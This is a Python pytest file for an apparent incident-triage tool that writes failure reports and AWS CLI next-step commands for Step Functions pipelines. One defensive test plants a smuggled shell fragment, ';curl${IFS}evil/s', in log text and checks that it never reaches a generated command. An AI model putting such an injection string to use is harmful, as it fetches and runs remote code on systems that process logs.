"""The report as a whole: evidence in order, the first sentence, real commands, nothing secret."""

import shlex
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.diagnosis.scenes import ENDED, EXECUTION, MACHINE, PIPELINE, REQUEST, execution, log_fact, payload
from triage.diagnosis import assemble
from triage.diagnosis.numbering import MAX_EVIDENCE, number
from triage.model.evidence import BlindSpot, GatheredEvidence
from triage.model.report import Cost
from triage.model.vocabulary import Category, Status

_KEY_ERROR = ("KeyError", payload("KeyError", "'customer_id'"))


def test_the_first_line_says_what_failed_where_when_and_why_with_its_evidence() -> None:
    report = execution(*_KEY_ERROR).report()
    first = report.summary.split("\n")[0]
    assert first == (
        "customer-etl FAILED at 2026-11-22 02:13:44 UTC in ForEachTable[7] > Load: Lambda acme-load-table expected the "
        "field 'customer_id', which is missing. [E1]"
    )


def test_the_summary_says_since_when_it_fails_and_whether_to_run_it_again() -> None:
    summary = execution(*_KEY_ERROR).report().summary
    assert "Last success 2026-11-21 02:14 UTC, 31 in a row. [E2]" in summary
    assert "Retrying now fails again. Fix the cause, then redrive" in summary


def test_evidence_is_numbered_by_weight_then_time_without_doubles_up_to_a_bound() -> None:
    facts = [log_fact(f"line {place}", weight=0.1) for place in range(100)]
    facts += [log_fact("most telling", weight=1.0), log_fact("most telling", weight=1.0)]
    evidence, telling = number(facts)
    assert evidence[0].text == "most telling"
    assert [each.id for each in evidence] == [f"E{place}" for place in range(1, MAX_EVIDENCE + 1)]
    assert evidence[1].text == "line 0"
    assert telling == {"E1"}


def test_a_failure_that_no_source_wrote_down_still_has_evidence_of_its_own() -> None:
    scene = execution(*_KEY_ERROR)
    bare = scene.located.model_copy(update={"facts": ()})
    report = assemble(scene.opened, bare, (), created_at=ENDED, cost=Cost())
    assert [each.source for each in report.evidence] == ["execution_history"]
    assert report.category is Category.DATA


def test_the_redrive_command_names_this_execution_and_comes_last() -> None:
    steps = execution("TypeError", payload("TypeError", "no")).report().next_steps
    assert steps[-1].command is not None
    assert shlex.split(steps[-1].command) == [
        *("aws", "stepfunctions", "redrive-execution", "--execution-arn", EXECUTION, "--region", "eu-west-1")
    ]
    assert "2026-12-06" in steps[-1].text
    assert steps[0].command is not None
    assert steps[0].command.startswith("aws lambda get-function-configuration --function-name acme-load-table ")


def test_an_unknown_cause_gets_commands_that_look_at_this_execution_and_its_log() -> None:
    decide, history, log, *_places = execution("LoaderFailed", "Error: -1").report().next_steps
    assert decide.text.startswith("To decide, see the REPORT line of its request")
    assert REQUEST in (decide.command or "")
    assert EXECUTION in (history.command or "")
    assert shlex.split(log.command or "")[4] == "/aws/lambda/acme-load-table"
    assert "--start-time 1795312724120" in (log.command or "")


def test_secrets_in_a_cause_reach_no_part_of_the_report() -> None:
    secret = "AKIAIOSFODNN7EXAMPLE"  # AWS's own example of a key
    scene = execution("ValueError", payload("ValueError", f"cannot use {secret}"))
    bare = scene.located.model_copy(update={"facts": ()})
    report = assemble(scene.opened, bare, (), created_at=ENDED, cost=Cost())
    assert secret not in report.model_dump_json()


def test_every_blind_spot_is_kept_once() -> None:
    spot = BlindSpot(source="logs", asked="a", reason="b", remedy="c")
    scene = execution(*_KEY_ERROR, blind_spots=(spot,))
    report = assemble(
        scene.opened,
        scene.located,
        (GatheredEvidence(source="logs", blind_spots=(spot,)),),
        created_at=ENDED,
        cost=Cost(),
    )
    assert report.blind_spots == (spot,)


def test_log_text_never_shapes_a_command() -> None:
    hostile = (
        "User: arn:aws:sts::111122223333:assumed-role/x;curl${IFS}evil/s is not authorized to perform: s3:GetObject on "
        "resource: arn:aws:s3:::raw/a"
    )
    report = execution("ClientError", payload("ClientError", hostile)).report()
    assert report.category is Category.PERMISSION
    assert not any("curl" in (step.command or "") for step in report.next_steps)


def test_the_report_names_pipeline_machine_and_window_as_they_were_given() -> None:
    report = execution(*_KEY_ERROR).report()
    assert report.pipeline == PIPELINE.pipeline_name
    assert report.incident_id == "01JDINCIDENT"
    assert report.failure is not None
    assert report.failure.state == "Load"
    assert report.window.end == ENDED
    assert any(each.resource == MACHINE for each in report.evidence)


@given(
    error=st.none() | st.text(max_size=50),
    cause=st.none() | st.text(max_size=400),
    log=st.text(max_size=400),
    status=st.sampled_from(Status),
)
def test_whatever_the_texts_there_is_a_report_that_cites_only_what_it_has(
    error: str | None, cause: str | None, log: str, status: Status
) -> None:
    report = execution(error, cause, logs=(log_fact(log),), status=status).report()
    ids = {each.id for each in report.evidence}
    assert report.summary
    assert all(ids.issuperset(finding.evidence) for finding in report.probable_causes)
    assert [finding.rank for finding in report.probable_causes] == list(range(1, len(report.probable_causes) + 1))


def test_hostile_logs_of_the_greatest_size_are_diagnosed_in_a_second() -> None:
    words = ("is not authorized to perform ", "An error occurred (", "aa/", "{", "Traceback\n", "A.A", "(Service: ")
    facts = tuple(
        log_fact(word * (8_000 // len(word)) + str(place), weight=0.9) for place in range(4) for word in words
    )
    scene = execution("X", "is not authorized to perform (Service: Status Code: 400" * 500, logs=facts)
    began = time.process_time()
    scene.report()
    assert time.process_time() - began < 1.0


@pytest.mark.parametrize(
    ("error", "actor"),
    [
        ("Lambda.ResourceNotFoundException", "it uses something that does not exist"),
        ("ResourceNotFoundException", "Lambda acme-load-table uses something that does not exist"),
    ],
)
def test_what_lambda_answers_to_the_state_is_not_said_of_a_function_that_never_ran(error: str, actor: str) -> None:
    report = execution(error, "Function not found: arn:aws:lambda:eu-west-1:111122223333:function:gone").report()
    assert f" in ForEachTable[7] > Load: {actor}" in report.summary
